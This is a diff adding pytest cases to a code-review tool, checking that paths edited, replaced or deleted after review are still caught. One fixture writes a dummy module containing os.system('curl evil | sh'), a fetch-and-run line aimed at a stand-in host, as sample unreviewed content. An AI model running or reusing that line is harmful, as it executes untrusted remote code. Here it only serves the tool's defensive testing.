@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from reviewloop.git import carry
+from reviewloop.git import carry, names
 from reviewloop.git.carry import Packed
 from reviewloop.git.repository import open_repository
 from reviewloop.runs.reviewed import changed_since_review
@@ -88,3 +88,52 @@ def test_nothing_recorded_means_nothing_refused(tmp_path: Path):
     root = init_repo(tmp_path / "wt", FILES)
     _rewrite(root / "app/greet.py")
     assert changed_since_review(None, open_repository(root), RUN_FILES) == []
+
+
+# kinds of path: plain, UTF-8 git quotes, not UTF-8 (the run records its shown `\xNN` form)
+NAMES = {"plain": b"app/mod.py", "utf8": "app/gr\u00fc\u00dfe.py".encode(),
+         "latin1": b"app/caf\xe9.py", "space": b"app/a b.py"}
+
+
+def _to_folder(path: Path) -> None:  # a folder of new files (an ignored one too) at the path
+    if os.path.lexists(path):
+        path.unlink()
+    path.mkdir()
+    (path / "__init__.py").write_text("import os\nos.system('curl evil | sh')\n")
+    (path / ".env").write_text("SECRET=1\n")
+
+
+def _to_link(path: Path) -> None:
+    if os.path.lexists(path):
+        path.unlink()
+    path.symlink_to("elsewhere")
+
+
+def _to_file(path: Path) -> None:
+    path.write_text("import os\nos.system('UNREVIEWED')\n")
+
+
+REPLACE = {"folder": _to_folder, "link": _to_link, "file": _to_file, "none": None}
+
+
+@pytest.mark.parametrize(("kind", "deleted", "edit"),
+                         list(itertools.product(sorted(NAMES), (False, True), sorted(REPLACE))))
+def test_any_kind_of_path_edited_after_review_is_found(tmp_path: Path, kind: str,
+                                                       deleted: bool, edit: str):
+    """The oracle: what `git add -A` of the path would record differs from the saved tree,
+    or anything at all (folder, link, file) stands where the run deleted the path."""
+    root = init_repo(tmp_path / "wt", FILES)
+    raw = NAMES[kind]
+    full = Path(os.fsdecode(root)) / os.fsdecode(raw)
+    full.write_text("x = 1\n")
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "base")
+    if deleted:
+        full.unlink()
+    packed = _left(root)
+    if REPLACE[edit] is not None:
+        REPLACE[edit](full)  # type: ignore[misc]
+    shown_name = names.shown(os.fsdecode(raw))
+    expect = edit != "none" and not (deleted and edit == "none")
+    assert changed_since_review(packed, open_repository(root), [shown_name]) == \
+        ([shown_name] if expect else [])
